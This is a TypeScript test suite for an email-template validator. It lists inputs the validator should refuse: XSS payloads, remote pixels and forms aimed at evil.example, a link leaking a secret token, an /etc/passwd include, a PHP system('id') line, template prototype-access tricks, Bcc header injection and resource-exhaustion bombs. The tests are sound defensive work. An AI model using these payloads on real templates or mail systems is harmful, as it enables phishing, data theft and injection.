// What an organization may not draw or say. Each of these would, if it came through, do something to whoever reads the
// mail, to another organization, or to this process.

import { describe, expect, it } from 'vitest'
import { compileApart } from './compiler.ts'
import { checkContext } from './context.ts'
import type { EmailTemplate } from './contract.ts'
import { checkEmailDrawing, checkEmailWords } from './folder.ts'
import { markupLimits } from './markup.ts'
import { type Kind, templateLimits } from './placeholders.ts'

const action = '<part name="action" />'
const text = (inside: string) => `<mj-text>${inside}</mj-text>${action}`
const body = (inside: string) =>
  `<mj-body><mj-section><mj-column>${inside}${action}<part name="footer" /></mj-column></mj-section></mj-body>`

const problemsOf = (mjml: string, template: EmailTemplate = 'welcome') =>
  checkEmailDrawing(template, { mjml }, 'emails/welcome.mjml')
const codesOf = async (mjml: string, template?: EmailTemplate) => [
  ...new Set((await problemsOf(mjml, template)).map(({ code }) => code)),
]

describe('a drawing that is welcome', () => {
  it.each([
    ['a paragraph and the button', text('{{words.lead}}')],
    ['a condition', text('{{#if name}}{{words.greeting}}{{else}}{{organization}}{{/if}}')],
    [
      'a button of its own',
      '<mj-button href="{{link}}" background-color="{{color.accent}}">{{words.action}}</mj-button>',
    ],
    ['a link to its own pages', text('<a href="https://pacifica.example/help">{{organization}}</a>')],
    ['a mail address', text('<a href="mailto:help@pacifica.example">help</a>')],
    ['a table', `<mj-table><tr><td align="right" width="120">{{email}}</td></tr></mj-table>${action}`],
    ['a body of its own', body('<part name="title" /><mj-divider border-color="#aa5500" />')],
    ['entities', text('R&amp;B &lt;script&gt; &nbsp;')],
  ])('%s', async (_, mjml) => expect(await problemsOf(mjml)).toEqual([]))
})

describe('a drawing that is refused', () => {
  it.each([
    ['a script', text('<script>alert(1)</script>')],
    ['a script in capitals', text('<SCRIPT SRC=https://evil.example/x.js></SCRIPT>')],
    ['a handler', text('<b onclick="alert(1)">x</b>')],
    ['a handler on a picture', text('<img src=x onerror=alert(1)>')],
    ['a picture from elsewhere', text('<img src="https://evil.example/pixel.gif">')],
    ['a picture of the compiler’s from elsewhere', `<mj-image src="https://evil.example/pixel.gif" />${action}`],
    ['a picture as a background', body('<mj-section background-url="https://evil.example/x.png"></mj-section>')],
    ['our picture by hand', text('{{image.logo}}')],
    ['a frame', text('<iframe src="https://evil.example"></iframe>')],
    ['a form', text('<form action="https://evil.example"><input name="password"></form>')],
    ['a refresh', text('<meta http-equiv="refresh" content="0;url=https://evil.example">')],
    ['a base', text('<base href="https://evil.example/">')],
    ['a sheet of styles', text('<style>*{display:none}</style>')],
    ['a style', text('<span style="position:fixed;inset:0">x</span>')],
    ['a drawing of the browser’s own', text('<svg><script>alert(1)</script></svg>')],
    ['raw markup', `<mj-raw><script>alert(1)</script></mj-raw>${action}`],
    ['a style of the compiler’s', `<mj-style>*{display:none}</mj-style>${action}`],
    ['a head of its own', `<mj-head><mj-title>x</mj-title></mj-head>${body('')}`],
    [
      'attributes by the back door',
      `<mj-html-attributes><mj-selector path="a"></mj-selector></mj-html-attributes>${action}`,
    ],
    ['a file', `<mj-include path="/etc/passwd" type="html" />${action}`],
    ['a file nearby', `<mj-include path="./secret.txt" />${action}`],
    ['a typeface from elsewhere', `<mj-font name="x" href="https://evil.example/x.css" />${action}`],
    ['javascript', text('<a href="javascript:alert(1)">x</a>')],
    ['javascript in pieces', text('<a href="java&#115;cript&colon;alert(1)">x</a>')],
    ['javascript after a space', text('<a href=" javascript:alert(1)">x</a>')],
    ['data', text('<a href="data:text/html,<script>alert(1)</script>">x</a>')],
    ['plain http', text('<a href="http://pacifica.example">x</a>')],
    ['no scheme', text('<a href="//evil.example">x</a>')],
    ['a link with the secret in it', text('<a href="https://evil.example/?u={{link}}">x</a>')],
    ['half of an address', text('<a href="https://{{organization}}/x">x</a>')],
    ['words for an address', text('<a href="{{organization}}">x</a>')],
    ['an address that is chosen', text('<a href="{{#if name}}https://evil.example{{else}}{{link}}{{/if}}">x</a>')],
    [
      'an attribute that is broken out of',
      `<mj-button href="{{link}}" title='"><script>alert(1)</script>'>x</mj-button>`,
    ],
    ['a class that is broken out of', `<mj-text css-class='a" onclick="alert(1)'>x</mj-text>${action}`],
    [
      'a colour that is broken out of',
      `<mj-text color="red;background:url(https://evil.example)">x</mj-text>${action}`,
    ],
    ['a size with a value in it', `<mj-text font-size="{{name}}">x</mj-text>${action}`],
    ['a value as a tag', text('<{{name}}>x')],
    ['a value as an attribute', text('<b {{name}}>x</b>')],
    ['a comment', text('<!-- {{#if name}} -->')],
    ['a condition for one family of programs', text('<!--[if mso]><script>alert(1)</script><![endif]-->')],
    ['an instruction', text('<?php system("id") ?>')],
    ['a section of characters', text('<![CDATA[<script>alert(1)</script>]]>')],
    ['words outside of a text', `{{#if name}}${action}{{/if}}`],
    ['a paragraph of somebody else’s', `<mj-section><mj-column>${text('x')}</mj-column></mj-section>`],
    ['a part that nobody has', `<part name="secrets" />${action}`],
    [
      'a body without who writes and why',
      `<mj-body><mj-section><mj-column>${action}</mj-column></mj-section></mj-body>`,
    ],
  ])('%s', async (_, mjml) => expect(await problemsOf(mjml)).not.toEqual([]))

  it.each([
    ['{{constructor.constructor}}'],
    ['{{__proto__}}'],
    ['{{this}}'],
    ['{{@root.ticket}}'],
    ['{{../link}}'],
    ['{{lookup this "link"}}'],
    ['{{#with organization}}{{length}}{{/with}}'],
    ['{{#each words}}{{this}}{{/each}}'],
    ['{{log "x"}}'],
    ['{{> (lookup . "name")}}'],
    ['{{#*inline "x"}}{{/inline}}'],
    ['{{{organization}}}'],
    ['{{&organization}}'],
    ['{{{{raw}}}}{{{{/raw}}}}'],
    ['\\{{organization}}'],
    ['{{ticket}}'],
    ['{{code}}'],
    ['{{origin}}'],
    ['{{words.constructor}}'],
    ['{{organization.length}}'],
    ['{{settings.secret}}'],
    ['{{#if (eq 1 1)}}x{{/if}}'],
    ['{{organization'],
    ['{{/if}}'],
  ])('%s', async (expression) => expect(await codesOf(text(expression))).toEqual(['emails.placeholder']))

  it('a mail that must carry a link or a code and does not', async () => {
    expect(await codesOf('<mj-text>Just believe us.</mj-text>')).toEqual(['emails.value_missing'])
    expect(await codesOf('<part name="action" />', 'verify-email')).toEqual(['emails.value_missing'])
    expect(await codesOf('<part name="code" /><part name="action" />', 'verify-email')).toEqual([])
  })

  it('a plain text that must carry a link and does not', async () => {
    const check = (own: string) => checkEmailDrawing('welcome', { text: own }, 'emails/welcome.txt')
    expect((await check('Hello {{name}}')).map(({ code }) => code)).toEqual(['emails.value_missing'])
    expect((await check('{{constructor}} {{link}}')).map(({ code }) => code)).toEqual(['emails.placeholder'])
    expect(await check('{{words.lead}}\n\n{{ link }}\n')).toEqual([])
  })
})

describe('what the compiler wrote is looked at once more, whoever drew it', () => {
  const known = new Map<string, Kind>([
    ['name', 'text'],
    ['link', 'url'],
  ])
  it.each([
    ['words', '<p>{{name}}{{#if name}} x{{/if}}</p>'],
    ['a quoted attribute of words', '<img alt="{{name}}" title="{{name}}">'],
    ['an address', '<a href="{{link}}">x</a><img src="{{link}}">'],
    [
      'the conditions of one family of programs',
      '<!--[if mso | IE]><table><![endif]--><!--[if !mso]><!--><b>x</b><!--<![endif]-->',
    ],
  ])('%s may be there', (_, html) => expect(checkContext(html, known)).toEqual([]))

  it.each([
    ['a script', '<script>1</script>'],
    ['an unknown value', '<p>{{secret}}</p>'],
    ['a value as a tag', '<{{name}}>'],
    ['a value in a tag', '<p {{name}}>'],
    ['a value without quotes', '<img alt={{name}}>'],
    ['a value in a style', '<p style="color:{{name}}">'],
    ['a value in a sheet of styles', '<style>a{color:{{name}}}</style>'],
    ['a value in a comment', '<!--[if mso]>{{name}}<![endif]-->'],
    ['a condition in an attribute', '<img alt="{{#if name}}x{{/if}}">'],
    ['words for an address', '<a href="{{name}}">x</a>'],
    ['an address with something beside it', '<a href="https://x.example/{{link}}">x</a>'],
    ['a picture from elsewhere', '<img src="https://evil.example/x.png">'],
    ['a handler', '<p onclick="x()">'],
    ['an address in a style', '<p style="background:url(https://evil.example)">'],
    ['an address in a sheet of styles', '<style>@import "https://evil.example";</style>'],
    ['a refresh', '<meta http-equiv="refresh" content="0">'],
    ['an instruction', '<?xml version="1.0"?>'],
    ['any other comment', '<!-- x -->'],
    ['a script for one family of programs', '<!--[if mso]><script>1</script><![endif]-->'],
  ])('%s may not', (_, html) => expect(checkContext(html, known)).not.toEqual([]))
})

describe('words that are refused', () => {
  const check = (value: unknown, template: EmailTemplate = 'welcome') =>
    checkEmailWords(template, value, 'emails/welcome/en.json').problems.map(({ code }) => code)
  it.each([
    ['a word that this email has not', { words: { nonsense: 'x' } }, 'texts.unknown_key'],
    ['a value that this email has not', { words: { lead: 'Your code is {code}' } }, 'texts.unknown_placeholder'],
    ['a name where there may be none', { subject: 'Welcome, {name}' }, 'texts.unknown_placeholder'],
    ['the prototype', { words: { lead: '{__proto__}' } }, 'texts.unknown_placeholder'],
    ['words that cannot be read', { words: { lead: '{organization' } }, 'texts.syntax'],
    ['a tag', { words: { lead: '<script>x</script>' } }, 'texts.unknown_tag'],
    ['a line end in the subject', { subject: 'Hi\r\nBcc: evil@example.com' }, 'texts.field'],
    ['a list', ['x'], 'emails.field'],
    ['a number', { words: { lead: 7 } }, 'emails.field'],
    ['a tree', { words: { lead: { type: 'Program', body: [] } } }, 'emails.field'],
    ['a field that is none', { html: '<b>' }, 'emails.field'],
    ['a subject in the wrong place', { words: { subject: 'x' } }, 'emails.field'],
    ['a subject that is too long', { subject: 'x'.repeat(151) }, 'emails.field'],
  ])('%s', (_, value, code) => expect(check(value)).toContain(code))

  it('what is welcome: any value that is always there, and null', () => {
    expect(
      check({
        subject: 'Hello from {organization}',
        preheader: null,
        words: { lead: 'To {email}', greeting: '{name}!' },
      }),
    ).toEqual([])
    expect(check({ subject: '{code}', words: { lead: '{minutes, plural, other {#}}' } }, 'verify-email')).toEqual([])
    expect(check({ words: { lead: '{at, date, long}' } }, 'password-changed')).toEqual([])
  })
})

describe('a bomb', () => {
  const nested = (depth: number) => '{{#if name}}'.repeat(depth) + '{{/if}}'.repeat(depth)
  it.each([
    ['a megabyte of values', text('{{name}}'.repeat(125_000))],
    ['more values than there may be', text('{{name}}'.repeat(templateLimits.placeholders + 1))],
    ['conditions in conditions', text(nested(templateLimits.depth + 1))],
    ['five thousand conditions', text(nested(5000))],
    ['elements in elements', body('<mj-text>'.repeat(2000))],
    ['words in words', text('<b>'.repeat(markupLimits.depth) + '</b>'.repeat(markupLimits.depth))],
    ['three thousand texts', '<mj-text>x</mj-text>'.repeat(3000) + action],
    ['a long attribute', `<mj-text color="${'a'.repeat(10_000_000)}">x</mj-text>${action}`],
    ['every part, again and again', '<part name="facts" />'.repeat(markupLimits.elements - 1) + action],
  ])('%s', async (_, mjml) => {
    expect(await problemsOf(mjml, 'password-changed')).not.toEqual([])
  })

  it('that came through every check would end its thread, not the process; the next drawing is compiled', async () => {
    let ticks = 0
    const ticking = setInterval(() => {
      ticks += 1
    }, 5)
    const bomb = compileApart(
      {
        template: 'welcome',
        layout: '<mjml><mj-body><slot /></mj-body></mjml>',
        parts: {},
        source: '<mj-section />'.repeat(15_000),
        text: null,
        // As if it were ours: nothing is counted before, only the work itself.
        isForeign: false,
        known: [],
        needed: [],
        look: { colors: {}, values: {}, scheme: 'light', faces: '', isSerif: false, has: { art: false, logo: false } },
        locale: 'en',
        dir: 'ltr',
      },
      100,
    )
    const next = problemsOf(text('{{words.lead}}'))
    expect((await bomb).problems).toEqual([{ code: 'emails.too_expensive', message: 'the compiler took too long' }])
    expect(await next).toEqual([])
    clearInterval(ticking)
    // The process went on with everything else meanwhile.
    expect(ticks).toBeGreaterThan(0)
  })
})
